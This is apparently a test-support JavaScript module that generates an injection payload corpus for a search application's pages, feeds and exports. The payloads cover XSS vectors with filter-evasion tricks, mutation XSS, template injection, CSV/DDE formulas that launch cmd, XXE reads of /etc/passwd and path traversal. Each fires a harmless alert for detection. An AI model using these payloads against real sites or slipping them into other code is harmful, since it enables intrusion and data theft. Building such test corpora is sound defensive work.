// Texts that would run, or break out of where they stand, in a page, a feed or an export that does not escape them.
// Each calls alert(n) or sets window.__xss; support.mjs notices both. `node payloads.mjs` tells how many there are.

import { pathToFileURL } from "node:url";

/** Calls that a browser would notice, in forms that filters of words know less well. */
const CALLS = [
  "alert(1)",
  "window.__xss=1",
  "alert`1`",
  "(0,alert)(1)",
  "top['al'+'ert'](1)",
  "self[atob('YWxlcnQ=')](1)",
  "setTimeout('alert(1)')",
  "\\u0061lert(1)",
  "[1].map(alert)",
  "eval(location.hash.slice(1)||'alert(1)')",
  "Function('alert(1)')()",
  "import('data:text/javascript,alert(1)')",
];

/** What ends the place where a text may stand: attributes, elements of raw text, comments, scripts, XML. */
const BREAKS = [
  "", '"', "'", '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</select>",
  "</template>", "</svg>", "</math>", "</iframe>", "</mark></p></li>", '"/>', "\\\">", "%22%3E", "&quot;&gt;", "\u0000\">", "*/", "//\n", "\r\n\r\n",
];

const ELEMENTS = [
  "<script>CALL</script>",
  "<img src=x onerror=CALL>",
  "<svg onload=CALL>",
  "<svg/onload=CALL//",
  "<body onload=CALL>",
  "<details open ontoggle=CALL>x",
  "<video><source onerror=CALL></video>",
  "<audio src=x onerror=CALL>",
  "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
  "<iframe src=javascript:CALL></iframe>",
  "<object data=javascript:CALL></object>",
  "<embed src=javascript:CALL>",
  "<a href=javascript:CALL>klik</a>",
  "<form action=javascript:CALL><button>klik</button></form>",
  "<button formaction=javascript:CALL form=zoek>klik</button>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL><option>x</select>",
  "<textarea autofocus onfocus=CALL>x</textarea>",
  "<marquee onstart=CALL>x</marquee>",
  "<base href=//127.0.0.1:9/>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<link rel=stylesheet href='data:text/css,*{color:red}'>",
  "<style onload=CALL></style>",
  "<style>@import 'javascript:CALL';</style>",
  "<ScRiPt>CALL</sCrIpT>",
  "<script/x>CALL</script/x>",
  "<script\n>CALL</script\n>",
  "<<script>CALL//<</script>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<img/src/onerror=CALL>",
  "<img src=x oNeRrOr=CALL>",
  "<img src=x onerror\n=\nCALL>",
  "<img src=x onerror\f=CALL>",
  "<x contenteditable autofocus tabindex=1 onfocus=CALL>x",
  "<x style='animation:a' onanimationstart=CALL>",
  "<dialog open onbeforetoggle=CALL>x</dialog>",
  "<raadpleeg-zoek server=javascript:CALL></raadpleeg-zoek>",
  "<template><script>CALL</script></template>",
  "<plaintext onmouseover=CALL>",
  "<isindex action=javascript:CALL type=image>",
];

const SVG = [
  "<svg><script>CALL</script></svg>",
  "<svg><script xlink:href='data:text/javascript,CALL'/></svg>",
  "<svg><a xlink:href='javascript:CALL'><text y=20>klik</text></a></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=CALL>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CALL</script></svg>#x'/></svg>",
  "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=CALL></body></foreignObject></svg>",
  "<svg><image href=x onerror=CALL></svg>",
  "<svg><style>@import url(javascript:CALL)</style></svg>",
  "<math href=javascript:CALL>klik</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:CALL>klik</maction></math>",
];

/** Markup that is harmless until it is written out and read again. */
const MUTATIONS = [
  "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CALL&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=CALL>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
  "<math><mi><style><!--</style><img src=x onerror=CALL>--></style></mi></math>",
  "<select><style></select><img src=x onerror=CALL></style>",
  "<title><style></title><img src=x onerror=CALL></style>",
  "<xmp><p title=\"</xmp><svg/onload=CALL>\">",
  "<noembed><p id=\"</noembed><img src=x onerror=CALL>\">",
  "<table><tr><td><svg><desc><td><img src=x onerror=CALL>",
  "<listing>&lt;img src=x onerror=CALL&gt;</listing>",
  "<a id='x`<img src=`x` onerror=CALL>'>",
];

const ATTRIBUTES = [
  "\" onfocus=CALL autofocus x=\"",
  "' onfocus=CALL autofocus x='",
  "\" onmouseover=\"CALL",
  "\"onpointerenter=CALL ",
  "\" style=\"animation:x\" onanimationstart=\"CALL",
  "\" formaction=\"javascript:CALL",
  "\" type=\"image\" src=\"x\" onerror=\"CALL",
  "x onfocus=CALL autofocus",
  "\" accesskey=\"x\" onclick=\"CALL",
  "\" data-suggestions=\"javascript:CALL",
  "\" srcdoc=\"<script>CALL</script>",
  "\" href=\"javascript:CALL",
];

const SCRIPTS = [
  "';CALL;//", "\";CALL;//", "\\';CALL;//", "\\\";CALL;//", "</script><script>CALL</script>", "${CALL}", "`;CALL;`", "*/CALL/*", "\u2028CALL//",
  "\u2029CALL//", "-CALL-", "'-CALL-'", "\"-CALL-\"", "');CALL;('", "]};CALL;({a:[", "<!--\nCALL//", "__proto__[x]=CALL", "constructor.constructor('CALL')()",
];

const ADDRESSES = [
  "javascript:CALL", "JaVaScRiPt:CALL", " javascript:CALL", "java\tscript:CALL", "java\nscript:CALL", "\u0001javascript:CALL", "javascript&colon;CALL",
  "&#106;avascript:CALL", "&#x6A;avascript&#x3A;CALL", "javascript://%0aCALL", "javascript:/*--></title>*/CALL", "data:text/html,<script>CALL</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=CALL xmlns='http://www.w3.org/2000/svg'/>",
  "vbscript:CALL", "blob:CALL", "view-source:javascript:CALL", "//127.0.0.1:9/x", "\\\\127.0.0.1\\x", "http:javascript:CALL", "../../v1/openapi.json?x=CALL",
  "/%2e%2e/%2e%2e/etc/passwd", "https://127.0.0.1:9@x/", "?vraag=\"><script>CALL</script>", "#\"><script>CALL</script>",
];

const STYLES = [
  "</style><script>CALL</script>", "x{background:url(javascript:CALL)}", "expression(CALL)", "\\3c script\\3e CALL", "@import url(//127.0.0.1:9/x.css);",
  "}*{background:url(//127.0.0.1:9/x)}", "behavior:url(x.htc)", "-moz-binding:url(x#y)", "input[value^=a]{background:url(//127.0.0.1:9/a)}",
];

const TEMPLATES = [
  "{{CALL}}", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{%raw%}<script>CALL</script>", "<%= CALL %>", "#{CALL}", "${7*7}", "{{constructor.constructor('CALL')()}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=CALL')}}", "{{=<% %>=}}<%CALL%>", "*{CALL}", "@{CALL}", "[[CALL]]", "{{{CALL}}}", "{|safe}<b>", "{# #}<script>CALL</script>",
];

const SIGNS = [
  "＜script＞CALL＜/script＞", "‹script›CALL‹/script›", "ʺ onfocus=CALL autofocus", "＂><img src=x onerror=CALL>", "\uFEFF<script>CALL</script>", "<\u0000script>CALL</script>",
  "<script\u00A0>CALL</script>", "<\u200Bscript>CALL</script>", "\u202E<tpircs>CALL", "\u2066<img src=x onerror=CALL>\u2069", "<ſcript>CALL</ſcript>", "<İMG SRC=x ONERROR=CALL>",
  "\u0085<svg onload=CALL>", "a\u0338<svg onload=CALL>", "\u{E003C}script\u{E003E}CALL", "+ADw-script+AD4-CALL+ADw-/script+AD4-", "%3Cscript%3ECALL%3C/script%3E",
  "%253Cscript%253ECALL%253C/script%253E", "&lt;script&gt;CALL&lt;/script&gt;", "&amp;lt;script&amp;gt;CALL", "&#60;script&#62;CALL&#60;/script&#62;",
  "&#x3c;img src=x onerror=CALL&#x3e;", "\\x3cscript\\x3eCALL\\x3c/script\\x3e", "\\u003cscript\\u003eCALL\\u003c/script\\u003e", "\u{1F600}<svg onload=CALL>", "¼script¾CALL¼/script¾",
];

const TERMINALS = [
  "\u001b[2J\u001b[31m<script>CALL</script>", "\u001b]0;CALL\u0007", "\u001b]8;;javascript:CALL\u0007klik\u001b]8;;\u0007", "\u009b31m<svg onload=CALL>", "\b\b\b<img src=x onerror=CALL>",
  "\r<script>CALL</script>", "regel\nX-Kop: CALL\n\n<script>CALL</script>", "\u007f<svg onload=CALL>", "\u001bc<script>CALL</script>", "%0d%0aSet-Cookie:x=1%0d%0a%0d%0a<script>CALL</script>",
];

const FORMULAS = [
  "=HYPERLINK(\"javascript:CALL\";\"klik\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=WEBSERVICE(\"//127.0.0.1:9/\"&A1)",
  "\t=1+1;CALL", "\r=1+1;CALL", ";=1+1;CALL", "\"=1+1;CALL\"", ",=DDE(\"cmd\";\"/C calc\")", "＝1+1", "%=1+1", "=IMPORTXML(\"//127.0.0.1:9\",\"//a\")",
];

const XML = [
  "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">CALL</script><![CDATA[", "<html xmlns='http://www.w3.org/1999/xhtml'><script>CALL</script></html>",
  "</title><script xmlns=\"http://www.w3.org/1999/xhtml\">CALL</script><title>", "<?xml-stylesheet href=\"javascript:CALL\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
  "<!ENTITY % a \"CALL\">%a;", "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>CALL</xsl:script>", "<content type=\"xhtml\"><div onclick=\"CALL\">x</div></content>",
  "<link rel=\"alternate\" href=\"javascript:CALL\"/>", "</summary><content type=\"html\">&lt;script&gt;CALL&lt;/script&gt;</content>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml' src='data:,CALL'/>",
  "</feed><script>CALL</script>", "&#0;&#x1F;CALL", "\uFFFE\uFFFFCALL", "<entry><id>CALL</id></entry>",
];

/** Texts of the program's own query language around markup, so that they reach the page past the parser. */
const QUERIES = ["\"PAYLOAD\"", "titel:\"PAYLOAD\"", "glasvezel OF PAYLOAD", "gemeente:PAYLOAD", "jaar:PAYLOAD", "(PAYLOAD", "PAYLOAD~1", "+PAYLOAD*"];

function* made() {
  const kinds = { html: ELEMENTS, svg: SVG, mutation: MUTATIONS, attribute: ATTRIBUTES, script: SCRIPTS, address: ADDRESSES, style: STYLES, template: TEMPLATES,
    signs: SIGNS, terminal: TERMINALS, formula: FORMULAS, xml: XML };
  let turn = 0;
  for (const [kind, texts] of Object.entries(kinds)) {
    for (const text of texts) yield [kind, text.replaceAll("CALL", CALLS[turn++ % CALLS.length])];
  }
  // Every way out with a few elements, and every call once in the plainest of them.
  for (const [index, end] of BREAKS.entries()) {
    for (let step = 0; step < 6; step++) {
      const element = ELEMENTS[(index * 5 + step * 7) % 20];
      yield ["way out", end + element.replaceAll("CALL", CALLS[(index + step) % CALLS.length])];
    }
  }
  for (const call of CALLS) yield ["call", `"'><img src=x onerror=${call}>`];
  for (const query of QUERIES) {
    for (const text of ["<svg onload=alert(1)>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\""]) yield ["query", query.replace("PAYLOAD", text)];
  }
}

/** All payloads, `{ kind, text }`, none twice. */
export const PAYLOADS = [...new Map([...made()].map(([kind, text]) => [text, { kind, text }])).values()];

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  console.log(`${PAYLOADS.length} payloads`);
}
